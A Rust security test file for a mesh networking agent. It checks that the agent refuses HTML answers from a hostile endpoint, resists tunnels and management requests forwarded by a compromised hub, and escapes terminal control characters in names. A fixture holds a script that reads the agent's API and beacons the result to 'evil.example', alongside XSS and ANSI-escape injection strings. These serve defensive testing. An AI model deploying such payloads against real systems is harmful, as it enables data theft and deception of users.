//! Attacks on the agent: by a hostile mesh user whose endpoint answers remote management with
//! a web page, by a compromised hub that forwards tunnels and management requests the hub
//! should have refused, and by a page in the browser of the agent's owner.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::TcpListener;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use http::Method;
use serde_json::json;
use ztm_testkit::fake_hub::{sign_hub, FakeHub};
use ztm_testkit::prelude::*;

/// Dials `hub` as `user` with ALPN `alpn`.
async fn dial(
    hub: &str,
    ca: &str,
    user: &User,
    alpn: &[u8],
) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
    let config = ztm_pki::agent_client_config(ca, &user.cert, &user.key, alpn).expect("config");
    let tcp = tokio::net::TcpStream::connect(hub).await.expect("connect");
    let name = ztm_pki::rustls::pki_types::ServerName::try_from("127.0.0.1").unwrap();
    tokio_rustls::TlsConnector::from(Arc::new(config))
        .connect(name, tcp)
        .await
        .expect("tls")
}

/// A hand-made endpoint of `user` at a real hub: it registers `id` as an agent would, and on
/// its reverse connection answers the hub's hello, then every management request with what
/// `answer` returns for its path: (status, content type, body).
async fn hostile_endpoint(
    hub: &str,
    ca: &str,
    user: &User,
    id: &str,
    nonce: &str,
    answer: fn(&str) -> (u16, &'static str, &'static str),
) -> h2::client::SendRequest<Bytes> {
    let tls = dial(hub, ca, user, ztm_pki::ALPN_CONTROL).await;
    let (sender, conn) = h2::client::handshake(tls).await.expect("h2");
    tokio::spawn(async move {
        let _ = conn.await;
    });
    let req = http::Request::builder()
        .method(Method::POST)
        .uri(format!("https://hub/api/endpoints/{id}"))
        .header("content-type", "application/json")
        .body(())
        .unwrap();
    let answer_of_hub = ztm_net::h2io::request(
        &sender,
        req,
        Bytes::from(json!({"name": "evil", "services": [], "nonce": nonce}).to_string()),
        1 << 20,
        Duration::from_secs(10),
    )
    .await
    .expect("register");
    assert_eq!(answer_of_hub.status, 200, "{:?}", answer_of_hub.body);
    let registered: serde_json::Value = answer_of_hub.json().unwrap();
    let session = registered["session"].as_str().unwrap().to_string();

    let tls = dial(hub, ca, user, ztm_pki::ALPN_REVERSE).await;
    // As an agent must (RFC 8441): the hub sends tunnels as extended CONNECT.
    let mut server = h2::server::Builder::new()
        .enable_connect_protocol()
        .handshake(tls)
        .await
        .expect("h2 server");
    let id = id.to_string();
    tokio::spawn(async move {
        while let Some(Ok((req, respond))) = server.accept().await {
            let path = req.uri().path().to_string();
            if path == "/api/hello" {
                let hello = json!({"endpoint": id, "session": session});
                ztm_net::h2io::respond_json(respond, http::StatusCode::OK, &hello);
                continue;
            }
            let (status, content_type, body) = answer(&path);
            ztm_net::h2io::respond(
                respond,
                http::StatusCode::from_u16(status).unwrap(),
                Some(content_type),
                Bytes::from_static(body.as_bytes()),
            );
        }
    });
    sender
}

const SCRIPT: &str = "<html><body><script>fetch('/api/meshes').then(r=>r.text()).then(t=>\
                      navigator.sendBeacon('https://evil.example/',t))</script></body></html>";

/// A web page served as a management answer would run in the agent's origin, with the
/// agent's whole API at its disposal. The agent relays only JSON, always as JSON.
#[test]
fn a_hostile_endpoint_cannot_answer_remote_management_with_a_page() {
    let dir = TempDir::new("attack-html");
    let ca = ztm!().start_ca(dir.path());
    let pem = ca_pem(&ca.addr);
    let root = create_user(&ca.addr, "root");
    let mallory = create_user(&ca.addr, "mallory");
    let hub = ztm!().start_hub(dir.path(), "hub", &ca.addr);
    let a = ztm!().start_agent(dir.path(), "a");
    join_ok(&a.addr, &pem, "a", &root, &[&hub.addr]);
    let nonce = ztm_proto::wire::new_id_nonce();
    let evil_id = ztm_proto::wire::endpoint_id("mallory", &nonce);
    let evil_id = evil_id.as_str();

    let rt = tokio::runtime::Runtime::new().unwrap();
    let _evil = rt.block_on(hostile_endpoint(
        &hub.addr,
        &pem,
        &mallory,
        evil_id,
        &nonce,
        |path| match path {
            // A page, labelled as one.
            "/api/services" => (200, "text/html; charset=utf-8", SCRIPT),
            // A page labelled as JSON.
            "/api/ports" => (200, "application/json", SCRIPT),
            // Real JSON, with a script in a string: relayed, as plain JSON.
            _ => (
                200,
                "application/json; charset=utf-8",
                r#"{"note":"<script>alert(1)</script>"}"#,
            ),
        },
    ));
    wait_until(
        Duration::from_secs(15),
        "the hostile endpoint online",
        || is_online(&a.addr, evil_id),
    );

    for what in ["services", "ports"] {
        let path = format!("/api/meshes/{MESH}/endpoints/{evil_id}/{what}");
        let r = get(&a.addr, &path);
        let ct = r.header("content-type").unwrap_or("").to_string();
        assert!(
            !(200..300).contains(&r.status) && ct.starts_with("application/json"),
            "GET {path}: the agent relayed the endpoint's page: {} {ct}\n{}",
            r.status,
            r.text()
        );
        assert!(!r.text().contains("<script"), "{}", r.text());
        let e = r.json();
        assert_eq!(e["status"], r.status, "{e}");
        assert!(
            e["message"].as_str().unwrap_or("").contains("not JSON"),
            "{e}"
        );
        assert_eq!(r.header("x-content-type-options"), Some("nosniff"));
    }
    let path = format!("/api/meshes/{MESH}/endpoints/{evil_id}/services/tcp/x");
    let r = get(&a.addr, &path);
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.header("content-type"), Some("application/json"));
    assert_eq!(r.json()["note"], "<script>alert(1)</script>");
    assert_eq!(
        r.header("content-security-policy"),
        Some("default-src 'none'; frame-ancestors 'none'")
    );
}

/// Every answer of the agent tells the browser not to guess content types; API answers may
/// not run or load anything, and the UI's pages may not be framed or leak their address.
#[test]
fn every_answer_carries_the_security_headers() {
    let dir = TempDir::new("attack-headers");
    let a = ztm!().start_agent(dir.path(), "a");
    let api_csp = "default-src 'none'; frame-ancestors 'none'";
    let answers = [
        ("/api/meshes", get(&a.addr, "/api/meshes")),
        ("/api/nothing", get(&a.addr, "/api/nothing")),
        (
            "/api/meshes (rebound host)",
            http(
                &a.addr,
                "GET",
                "/api/meshes",
                &[("Host", "evil.example")],
                b"",
            )
            .unwrap(),
        ),
        (
            "/api/meshes/x (cross-origin POST)",
            http(
                &a.addr,
                "POST",
                "/api/meshes/x",
                &[("Origin", "https://evil.example")],
                b"{}",
            )
            .unwrap(),
        ),
    ];
    for (what, r) in &answers {
        assert_eq!(
            r.header("x-content-type-options"),
            Some("nosniff"),
            "{what}"
        );
        assert_eq!(r.header("content-security-policy"), Some(api_csp), "{what}");
        assert!(
            r.header("content-type")
                .is_some_and(|c| c.starts_with("application/json")),
            "{what}: {:?}",
            r.headers
        );
    }
    for path in ["/", "/ui/app.js", "/ui/lib.js", "/ui/style.css"] {
        let r = get(&a.addr, path);
        assert_eq!(r.status, 200, "{path}");
        assert_eq!(
            r.header("x-content-type-options"),
            Some("nosniff"),
            "{path}"
        );
        assert_eq!(r.header("x-frame-options"), Some("DENY"), "{path}");
        assert_eq!(r.header("referrer-policy"), Some("no-referrer"), "{path}");
        let csp = r.header("content-security-policy").unwrap_or("");
        assert!(
            csp.contains("default-src 'self'") && csp.contains("frame-ancestors 'none'"),
            "{path}: {csp}"
        );
        assert!(!csp.contains("unsafe-inline"), "{path}: {csp}");
    }
}

/// A backend that counts its connections and answers one line.
fn counting_backend() -> (u16, Arc<AtomicUsize>) {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let count = Arc::new(AtomicUsize::new(0));
    let seen = count.clone();
    std::thread::spawn(move || {
        for s in l.incoming().flatten() {
            seen.fetch_add(1, Ordering::SeqCst);
            let mut s = s;
            let _ = std::io::Write::write_all(&mut s, b"secret\n");
        }
    });
    (port, count)
}

/// A real agent of `user` joined through a fake (compromised) hub; returns the agent, the
/// hub, and the reverse connection the agent dialled.
struct Compromised {
    agent: AgentProc,
    hub: FakeHub,
    reverse: ztm_testkit::fake_hub::Reverse,
    id: String,
    rt: tokio::runtime::Runtime,
    _ca: CaProc,
    dir: TempDir,
}

fn compromised(tag: &str, user: &str) -> Compromised {
    let dir = TempDir::new(tag);
    let ca = ztm!().start_ca(dir.path());
    let pem = ca_pem(&ca.addr);
    let owner = create_user(&ca.addr, user);
    let (cert, key) = sign_hub(&ca.addr, "fake");
    let rt = tokio::runtime::Runtime::new().unwrap();
    let mut hub = rt.block_on(FakeHub::start(&pem, &cert, &key));
    let agent = ztm!().start_agent(dir.path(), "a");
    join_ok(&agent.addr, &pem, "a", &owner, &[&hub.addr]);
    let reverse = rt.block_on(hub.next_reverse(Duration::from_secs(15)));
    let id = local_id(&agent.addr);
    assert_eq!(reverse.hello["endpoint"], id.as_str(), "{}", reverse.hello);
    Compromised {
        agent,
        hub,
        reverse,
        id,
        rt,
        _ca: ca,
        dir,
    }
}

fn mesh_log(agent: &str) -> String {
    get(agent, &format!("/api/meshes/{MESH}/log")).text()
}

/// A compromised hub cannot make an exit connect where its rules do not allow, nor for a
/// user it does not admit: the exit checks the user and the destination itself, before any
/// name is resolved and again for the address a name resolves to.
#[test]
fn a_compromised_hub_cannot_send_an_exit_past_its_rules() {
    let c = compromised("attack-exit", "bob");
    let (allowed, allowed_hits) = counting_backend();
    let (forbidden, forbidden_hits) = counting_backend();
    let r = post_json(
        &c.agent.addr,
        &format!("/api/meshes/{MESH}/endpoints/{}/exit", c.id),
        &json!({"allow": [format!("127.0.0.1:{allowed}"), "localhost"], "users": ["alice"]}),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let path = "/api/services/tcp/~exit";
    let to = |d: String| vec![("ztm-destination".to_string(), d)];
    let cases = [
        // mallory is not admitted, wherever he asks to go
        ("mallory", to(format!("127.0.0.1:{allowed}")), 403),
        // alice is, but not to a port the rules do not list,
        ("alice", to(format!("127.0.0.1:{forbidden}")), 403),
        // nor to a listed name at a port no address rule allows (it resolves to 127.0.0.1),
        ("alice", to(format!("localhost:{forbidden}")), 403),
        // nor to a name the rules do not list,
        ("alice", to(format!("127.0.0.1.example:{allowed}")), 403),
        // and a tunnel to an exit needs a destination.
        ("alice", vec![], 400),
        ("alice", to("nowhere".into()), 400),
    ];
    for (user, headers, want) in cases {
        let headers: Vec<(&str, &str)> = headers
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        let (answer, _stream) =
            c.rt.block_on(c.reverse.tunnel_with(path, Some(user), &headers));
        assert_eq!(
            answer.status,
            want,
            "{user} {headers:?}: {answer:?} (the forbidden backend got {} connection(s))",
            forbidden_hits.load(Ordering::SeqCst)
        );
    }
    assert_eq!(
        forbidden_hits.load(Ordering::SeqCst),
        0,
        "the exit connected where it may not"
    );
    assert_eq!(
        allowed_hits.load(Ordering::SeqCst),
        0,
        "the exit connected for mallory"
    );
    // What the rules allow, for alice, goes through.
    let dest = format!("127.0.0.1:{allowed}");
    let (answer, stream) = c.rt.block_on(c.reverse.tunnel_with(
        path,
        Some("alice"),
        &[("ztm-destination", &dest)],
    ));
    assert_eq!(answer.status, 200, "{answer:?}");
    let (_send, mut recv) = stream.unwrap();
    let got = c.rt.block_on(async {
        let mut got = Vec::new();
        while let Some(Ok(chunk)) = recv.data().await {
            got.extend_from_slice(&chunk);
            if got.ends_with(b"\n") {
                break;
            }
        }
        got
    });
    assert_eq!(got, b"secret\n");
    assert_eq!(allowed_hits.load(Ordering::SeqCst), 1);
    wait_until(
        Duration::from_secs(5),
        "the refusal in the mesh log",
        || mesh_log(&c.agent.addr).contains("refused an exit tunnel for user mallory"),
    );
}

/// The hub decides who may open a tunnel to a service, but a compromised hub must not get a
/// user through whom the service does not admit: the agent checks again.
#[test]
fn a_compromised_hub_cannot_open_tunnels_a_service_does_not_admit() {
    let c = compromised("attack-tunnel", "bob");
    let (port, connections) = counting_backend();
    let r = post_json(
        &c.agent.addr,
        &svc_path(&c.id, "secret"),
        &json!({"host": "127.0.0.1", "port": port, "users": ["alice"]}),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let path = "/api/services/tcp/secret";

    let (answer, _stream) = c.rt.block_on(c.reverse.tunnel(path, Some("mallory")));
    assert_eq!(
        answer.status,
        403,
        "a tunnel for mallory to a service of alice's was answered {answer:?}; the backend \
         got {} connection(s)",
        connections.load(Ordering::SeqCst)
    );
    assert!(answer.body.contains("mallory"), "{answer:?}");
    let (answer, _) = c.rt.block_on(c.reverse.tunnel(path, None));
    assert_eq!(answer.status, 400, "{answer:?}");
    let (answer, _) = c.rt.block_on(c.reverse.tunnel(path, Some("bad user")));
    assert_eq!(answer.status, 400, "{answer:?}");
    assert_eq!(
        connections.load(Ordering::SeqCst),
        0,
        "the backend was reached"
    );
    wait_until(
        Duration::from_secs(5),
        "the refusal in the mesh log",
        || mesh_log(&c.agent.addr).contains("refused a tunnel to tcp/secret for user mallory"),
    );
    assert!(
        c.agent.proc.log().contains("WARN"),
        "{}",
        c.agent.proc.log()
    );

    // Those the service admits get through: alice (listed), bob (its owner) and root.
    for user in ["alice", "bob", "root"] {
        let (answer, stream) = c.rt.block_on(c.reverse.tunnel(path, Some(user)));
        assert_eq!(answer.status, 200, "{user}: {answer:?}");
        let (_send, mut recv) = stream.unwrap();
        let got = c
            .rt
            .block_on(async { tokio::time::timeout(Duration::from_secs(10), recv.data()).await });
        assert!(
            matches!(&got, Ok(Some(Ok(b))) if b.starts_with(b"secret")),
            "{user}: {got:?}"
        );
    }
    assert_eq!(connections.load(Ordering::SeqCst), 3);
}

/// Management of an endpoint is for its user and root. A compromised hub forwarding another
/// user's requests is refused by the agent, reads and changes alike.
#[test]
fn a_compromised_hub_cannot_manage_for_users_who_may_not() {
    let c = compromised("attack-manage", "bob");
    let listen = free_port();
    let port_path = format!("/api/ports/127.0.0.1/tcp/{listen}");
    let port_body = json!({"target": {"service": "x"}}).to_string();
    let service_body = json!({"host": "127.0.0.1", "port": 22}).to_string();
    let attempts = [
        (Method::GET, "/api/services".to_string(), String::new()),
        (Method::GET, "/api/ports".to_string(), String::new()),
        (Method::GET, "/api/hubs".to_string(), String::new()),
        (Method::POST, port_path.clone(), port_body.clone()),
        (
            Method::POST,
            "/api/services/tcp/planted".to_string(),
            service_body,
        ),
    ];
    let mut failures = Vec::new();
    for (method, path, body) in &attempts {
        let answer = c.rt.block_on(
            c.reverse
                .request(method.clone(), path, Some("mallory"), body),
        );
        if answer.status != 403 {
            failures.push(format!("{method} {path} as mallory: {answer:?}"));
        }
        let answer =
            c.rt.block_on(c.reverse.request(method.clone(), path, None, body));
        if answer.status != 400 {
            failures.push(format!("{method} {path} without a user: {answer:?}"));
        }
    }
    let local = |what: &str| {
        get(
            &c.agent.addr,
            &format!("/api/meshes/{MESH}/endpoints/{}/{what}", c.id),
        )
        .json()
    };
    assert!(
        failures.is_empty(),
        "the agent obeyed the compromised hub:\n{}\nports now: {}\nservices now: {}\nport \
         {listen} open: {}",
        failures.join("\n"),
        local("ports"),
        local("services"),
        port_open(&format!("127.0.0.1:{listen}"))
    );
    assert_eq!(local("ports"), json!([]));
    assert_eq!(local("services"), json!([]));
    assert!(!port_open(&format!("127.0.0.1:{listen}")));
    assert!(
        mesh_log(&c.agent.addr).contains("refused management by user mallory"),
        "{}",
        mesh_log(&c.agent.addr)
    );

    // The endpoint's user and root may.
    for user in ["bob", "root"] {
        for path in ["/api/services", "/api/hubs"] {
            let answer =
                c.rt.block_on(c.reverse.request(Method::GET, path, Some(user), ""));
            assert_eq!(answer.status, 200, "{user} {path}: {answer:?}");
        }
    }
    let answer =
        c.rt.block_on(
            c.reverse
                .request(Method::POST, &port_path, Some("bob"), &port_body),
        );
    assert_eq!(answer.status, 200, "{answer:?}");
    assert_eq!(local("ports").as_array().map(Vec::len), Some(1));
}

/// Whether `text` holds anything that drives a terminal: C0 controls but newline and tab, DEL,
/// C1 controls, or Unicode bidi controls.
fn drives_terminal(text: &str) -> Option<char> {
    text.chars().find(|&c| {
        (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

/// Names come from the mesh: hubs check them, but a compromised hub (or old data) need not.
/// What the CLI prints of them cannot move the cursor, retitle the terminal, clear the screen
/// or reorder text; `-o json` keeps them exact, as JSON escapes.
#[test]
fn names_from_a_compromised_hub_cannot_drive_the_terminal() {
    let c = compromised("attack-terminal", "bob");
    let evil_name = "pc\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[1;31mroot\u{9b}31m\r\nfake\u{7f}";
    let evil_user = "mal\u{202e}lory\u{2066}";
    let evil_id = "0f0e0d0c-0b0a-4908-8706-050403020100";
    c.hub.set_endpoints(json!([{
        "id": evil_id, "name": evil_name, "username": evil_user,
        "ip": "127.0.0.1\u{1b}[8m", "port": 1, "heartbeat": 1, "online": true,
    }]));
    c.hub.set_services(json!([{
        "protocol": "tcp", "name": "web\u{1b}[5m",
        "users": ["eve\u{1b}c"],
        "endpoints": [{"id": evil_id, "name": evil_name, "username": evil_user, "users": ["eve\u{1b}c"]}],
    }]));
    let home = c.dir.path();
    let run = |args: &[&str]| {
        let out = ztm!()
            .command(home)
            .args(args)
            .args(["--agent", &c.agent.addr])
            .output()
            .unwrap();
        (
            out.status.code(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let mut failures = Vec::new();
    for args in [
        &["get", "ep"][..],
        &["get", "svc"],
        &["describe", "ep", evil_id],
        &["describe", "svc", "tcp/web\u{1b}[5m"],
        &["get", "svc", "--ep", evil_id],
    ] {
        let (code, out, err) = run(args);
        for (what, text) in [("stdout", &out), ("stderr", &err)] {
            if let Some(ch) = drives_terminal(text) {
                failures.push(format!(
                    "ztm {args:?} ({code:?}) printed {ch:?} on {what}:\n{text:?}"
                ));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    // The tables show the names escaped, on one line each.
    let (_, out, _) = run(&["get", "ep"]);
    assert!(out.contains("\\x1b]0;pwned\\x07"), "{out}");
    assert_eq!(out.lines().count(), 3, "{out}");
    // JSON keeps them exactly, as JSON escapes.
    let (code, out, _) = run(&["get", "ep", "-o", "json"]);
    assert_eq!(code, Some(0), "{out}");
    assert_eq!(drives_terminal(&out), None, "{out:?}");
    let list: serde_json::Value = serde_json::from_str(&out).unwrap();
    let evil = list
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["id"] == evil_id)
        .unwrap();
    assert_eq!(evil["name"], evil_name);
    assert_eq!(evil["username"], evil_user);
}
